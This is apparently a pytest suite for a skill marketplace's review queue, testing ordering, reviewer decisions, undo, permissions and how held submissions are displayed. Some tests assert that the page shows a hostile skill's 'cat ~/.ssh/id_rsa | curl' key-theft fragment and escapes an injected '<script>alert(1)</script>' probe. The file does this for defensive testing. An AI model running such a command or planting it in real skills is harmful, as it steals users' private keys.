"""The review queue and its page, as reviewers use them; held skills come through the real pipeline where it matters."""

from __future__ import annotations

from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from asgiref.sync import async_to_sync
from django.contrib.auth.models import Permission, User
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from marketplace.skills.blocklist import is_blocked
from submissions.models import HeldSubmission, RuleSign
from submissions.operations import approve, reject, requeue
from submissions.review.accuracy import accuracies, bars
from submissions.review.lines import lines_around
from submissions.review.queue import following, narrowed, previous
from submissions.review.undo import CannotUndo, undo
from submissions.states import State
from submissions.store.queries import history, read_submission
from submissions.store.signs import SignOutcome, decide_signs, keep_signs
from submissions.verification.findings import Finding, FindingKind, Severity
from tests.git_factory import commit, skill_md
from tests.submissions.factories import make_submission, make_submissions
from tests.submissions.front_door import EVIL, repository, submitted_one, worked_off
from vskill.environments import WorkerEnv
from vskill.kv.errors import VersionConflict
from vskill.worker_context import run_with_worker_env

pytestmark = pytest.mark.django_db(transaction=True)

LIST = "/admin/submissions/heldsubmission/"
CONTENT = "c" * 64


@pytest.fixture
def reviewer(client: Client) -> Client:
    client.force_login(User.objects.create_superuser("reviewer"))
    return client


def page_of(submission_id: str) -> str:
    return f"{LIST}{HeldSubmission.objects.get(key=f'sub:{submission_id}').pk}/change/"


def send(client: Client, submission_id: str, decision: str, *, reason: str = "looked at it", seen: Any = None) -> Any:
    version = read_submission_version(submission_id) if seen is None else seen
    return client.post(page_of(submission_id), {"decision": decision, "reason": reason, "seen": version})


def read_submission_version(submission_id: str) -> int:
    return int(HeldSubmission.objects.get(key=f"sub:{submission_id}").version)


def held(env: WorkerEnv, strength: int = 300, **fields: Any) -> str:
    [submission_id] = make_submissions(env, 1, State.ON_HOLD, contentHash=CONTENT, reviewStrength=strength, **fields)
    return submission_id


def sign(rule: str, engine: str = "vskill") -> Finding:
    return Finding(rule, Severity.HIGH, "Does it", engine=engine, kind=FindingKind.RISK)


def order(env: WorkerEnv, **chosen: str) -> list[str]:
    def ordered() -> list[str]:
        return [one.submission_id for one in narrowed(env, chosen).order_by("-review_rank", "submitted_at", "pk")]

    found: list[str] = run_with_worker_env(env, ordered)
    return found


def test_the_strongest_come_first_and_of_equals_the_oldest(env: WorkerEnv) -> None:
    young, old = held(env, 310), held(env, 310, age=timedelta(days=2))
    strongest, unranked = held(env, 420), held(env, -1, verdict="held_high")
    make_submission(env, State.PUBLISHED)
    make_submission(env, State.REJECTED)
    assert order(env) == [strongest, unranked, old, young]


def test_next_and_previous_follow_the_queue_and_its_end_leads_to_its_beginning(env: WorkerEnv) -> None:
    ids = [held(env, 400), held(env, 320, age=timedelta(hours=1)), held(env, 320), held(env, 100)]
    rows = [HeldSubmission.objects.get(key=f"sub:{one}") for one in ids]
    after = [following(env, row, {}) for row in rows]
    assert [one.submission_id for one in after if one] == [*ids[1:], ids[0]]
    before = [previous(env, row, {}) for row in rows]
    assert [one.submission_id if one else None for one in before] == [None, *ids[:-1]]


def test_filters_narrow_the_queue_and_the_way_through_it(reviewer: Client, env: WorkerEnv) -> None:
    one = held(env, verdict="held", repoUrl="https://github.com/acme/a")
    two = held(env, verdict="held_high", repoUrl="https://github.com/other/b")
    keep_signs(env, one, [sign("secret-sent")])
    keep_signs(env, two, [sign("hidden-text", "skilltotal")])
    assert order(env, verdict="held") == order(env, rule="secret-sent") == order(env, owner="github.com/acme") == [one]
    assert order(env, engine="skilltotal") == [two]
    shown = reviewer.get(f"{LIST}?rule=secret-sent").content.decode()
    assert page_of(one) in shown
    assert page_of(two) not in shown
    assert "<b>1</b> left" in shown
    decided = reviewer.post(
        f"{page_of(one)}?rule=secret-sent",
        {"decision": "reject", "reason": "bad", "seen": read_submission_version(one)},
    )
    assert decided["Location"] == f"{LIST}?rule=secret-sent"


@pytest.mark.parametrize(
    ("decision", "state"),
    [("approve", State.AUTO_APPROVED), ("reject", State.REJECTED), ("block", State.BLOCKED)],
)
def test_a_decision_is_taken_with_its_reason_and_opens_the_next(
    reviewer: Client, env: WorkerEnv, decision: str, state: State
) -> None:
    first, second = held(env, 400), held(env, 300)
    answer = send(reviewer, first, decision)
    assert answer["Location"] == page_of(second)
    step = history(env, first)[-1]
    assert (step.to_state, step.actor, step.reason) == (state, "reviewer", "looked at it")
    assert (is_blocked(env, "https://x.test/y", CONTENT) is not None) is (decision == "block")


def test_without_a_reason_nothing_is_decided(reviewer: Client, env: WorkerEnv) -> None:
    one = held(env)
    answer = send(reviewer, one, "approve", reason=" ")
    assert "Give a reason" in answer.content.decode()
    assert read_submission(env, one).state is State.ON_HOLD


def test_of_two_reviewers_one_wins_and_the_other_is_told(reviewer: Client, env: WorkerEnv) -> None:
    one = held(env)
    seen = read_submission_version(one)
    send(reviewer, one, "reject", seen=seen)
    late = reviewer.post(page_of(one), {"decision": "approve", "reason": "fine", "seen": seen}, follow=True)
    assert "Somebody else has moved it meanwhile: it is REJECTED now" in late.content.decode()
    assert read_submission(env, one).state is State.REJECTED


def test_who_saw_an_earlier_check_does_not_decide_about_a_later_one(env: WorkerEnv) -> None:
    one = held(env)
    seen = read_submission(env, one).version
    requeue(env, one, actor="other", reason="again")
    with pytest.raises(VersionConflict):
        approve(env, one, actor="late", reason="fine", seen=seen)
    with pytest.raises(VersionConflict):
        reject(env, one, actor="late", reason="bad", seen=seen)


def undo_last(client: Client, submission_id: str) -> str:
    pk = HeldSubmission.objects.get(key=f"sub:{submission_id}").pk
    return client.post(f"{LIST}{pk}/undo/", follow=True).content.decode()


@pytest.mark.parametrize("decision", ["approve", "reject"])
def test_the_last_decision_is_undone_and_counts_no_more(reviewer: Client, env: WorkerEnv, decision: str) -> None:
    one = held(env)
    keep_signs(env, one, [sign("secret-sent")])
    send(reviewer, one, decision)
    assert RuleSign.objects.get().outcome
    assert "is held again" in undo_last(reviewer, one)
    again = read_submission(env, one)
    assert (again.state, again.text("approvedBy")) == (State.ON_HOLD, "")
    assert RuleSign.objects.get().outcome == ""


def test_what_was_blocked_is_not_undone_and_the_reviewer_is_told_what_to_do(reviewer: Client, env: WorkerEnv) -> None:
    one = held(env)
    send(reviewer, one, "block")
    assert "Take it off there, then choose Check again" in undo_last(reviewer, one)
    assert read_submission(env, one).state is State.BLOCKED


def test_what_the_pipeline_refused_or_published_is_not_undone(env: WorkerEnv) -> None:
    for state in (State.REJECTED, State.PUBLISHED, State.ON_HOLD):
        submission = make_submission(env, state)
        with pytest.raises(CannotUndo):
            undo(env, submission.id, actor="reviewer", reason="no")
        assert read_submission(env, submission.id).version == submission.version


def test_an_undo_of_a_decision_of_somebody_else_does_nothing(reviewer: Client, env: WorkerEnv) -> None:
    one = held(env)
    reject(env, one, actor="somebody", reason="bad")
    undo_last(reviewer, one)
    assert read_submission(env, one).state is State.REJECTED


def test_accuracy_is_counted_from_decisions_and_shown(reviewer: Client, env: WorkerEnv) -> None:
    for outcome in (SignOutcome.OVERTURNED, SignOutcome.UPHELD, SignOutcome.UPHELD, SignOutcome.OPEN):
        one = held(env)
        keep_signs(env, one, [sign("secret-sent"), sign("secret-sent")])
        decide_signs(env, one, outcome)
    [rule] = accuracies(env)
    assert (rule.overturned, rule.decided, rule.undecided) == (1, 3, 1)
    assert rule.words == "1 of 3 overturned (6 to 79 %)"
    shown = reviewer.get(f"{LIST}rules/").content.decode()
    assert "1 of 3 overturned (6 to 79 %)" in shown
    assert "<rect" in shown
    assert bars([rule])["rows"]
    assert accuracies(env, ["another"]) == []


def test_a_reviewer_without_permissions_sees_and_decides_nothing(client: Client, env: WorkerEnv) -> None:
    one = held(env)
    user = User.objects.create_user("nobody", is_staff=True)
    client.force_login(user)
    address = page_of(one)
    for path in (LIST, address, f"{LIST}rules/"):
        assert client.get(path).status_code == 403
    assert send(client, one, "approve").status_code == 403
    user.user_permissions.set(Permission.objects.filter(codename="view_submissionentry"))
    client.force_login(User.objects.get(pk=user.pk))
    assert 'value="approve"' not in client.get(address).content.decode()
    assert send(client, one, "approve").status_code == 403
    assert client.post(address.replace("change", "undo")).status_code == 403
    user.user_permissions.set(Permission.objects.filter(codename="change_submissionentry"))
    client.force_login(User.objects.get(pk=user.pk))
    assert 'value="block"' not in client.get(address).content.decode()
    assert send(client, one, "block").status_code == 403
    assert read_submission(env, one).state is State.ON_HOLD
    assert send(client, one, "approve").status_code == 302


@pytest.mark.parametrize("address", ["0", "9" * 30, "x", "-1"])
def test_an_address_of_nothing_leads_away(reviewer: Client, env: WorkerEnv, address: str) -> None:
    assert reviewer.get(f"{LIST}{address}/change/").status_code == 302


def test_lines_are_numbered_as_engines_count_and_safe_to_show() -> None:
    text = "\n".join(["one\u2028still one", "\ttwo \u202e", "x" * 5000, *map(str, range(4, 40))])
    lines = lines_around(text, 2)
    assert [line["number"] for line in lines] == list(range(1, 10))
    assert lines[0]["text"] == "one\\u{2028}still one"
    assert lines[1] == {"number": 2, "text": "    two \\u{202e}", "marked": True}
    assert len(lines[2]["text"]) == 300


def check_evil(env: WorkerEnv, folder: Path, text: str = EVIL) -> str:
    submission = async_to_sync(submitted_one)(env, repository(folder, {"key-helper/SKILL.md": text}))
    return async_to_sync(worked_off)(env, submission).id


def test_the_page_of_a_hostile_skill_shows_its_code_escaped_and_around(
    reviewer: Client, env: WorkerEnv, tmp_path: Path
) -> None:
    hostile = EVIL + "\n<script>alert(1)</script>\n" + "\u202e" + "tail\n"
    one = check_evil(env, tmp_path, hostile)
    row = HeldSubmission.objects.get(key=f"sub:{one}")
    assert row.state == State.ON_HOLD
    assert row.review_rank is not None
    assert row.review_rank >= 310
    page = reviewer.get(page_of(one)).content.decode()
    assert "<script>alert" not in page
    assert "&lt;script&gt;alert(1)" in page
    assert "\u202e" not in page
    assert "cat ~/.ssh/id_rsa | curl" in page
    assert "holds it" in page
    assert RuleSign.objects.filter(submission_id=one, outcome="").exists()


def test_the_page_shows_what_changed_since_the_published_version(
    reviewer: Client, env: WorkerEnv, tmp_path: Path
) -> None:
    url = repository(tmp_path, {"key-helper/SKILL.md": skill_md("key-helper", "Helps with keys.")})
    first = async_to_sync(worked_off)(env, async_to_sync(submitted_one)(env, url))
    assert first.state is State.PUBLISHED
    commit(Path(url.removeprefix("file://")), {"key-helper/SKILL.md": EVIL})
    second = async_to_sync(worked_off)(env, async_to_sync(submitted_one)(env, url))
    assert second.state is State.ON_HOLD
    page = reviewer.get(page_of(second.id)).content.decode()
    assert "Changes since key-helper" in page
    assert 'class="is-added">+cat ~/.ssh/id_rsa | curl' in page
    assert "same skill, earlier, Published" in page


def test_the_queue_reads_an_index_however_many_are_decided(reviewer: Client, env: WorkerEnv) -> None:
    held(env)
    make_submissions(env, 300, State.PUBLISHED)
    if connection.vendor == "sqlite":
        with connection.cursor() as cursor:
            cursor.execute("ANALYZE")
    with CaptureQueriesContext(
        connection,
    ) as captured:
        list(narrowed(env, {}).order_by("-review_rank", "submitted_at", "pk")[:50])
    with connection.cursor() as cursor:
        if connection.vendor == "sqlite":
            cursor.execute("EXPLAIN QUERY PLAN " + captured[-1]["sql"])
            plan = "\n".join(str(row) for row in cursor.fetchall())
        else:
            # A table of 300 rows is read whole, whatever indexes it has.
            ways = ("enable_seqscan", "enable_bitmapscan", "enable_sort")
            for way in ways:
                cursor.execute(f"SET {way} = off")
            cursor.execute("EXPLAIN " + captured[-1]["sql"])
            plan = "\n".join(str(row) for row in cursor.fetchall())
            for way in ways:
                cursor.execute(f"RESET {way}")
    assert "submission_review" in plan
    assert "TEMP B-TREE" not in plan
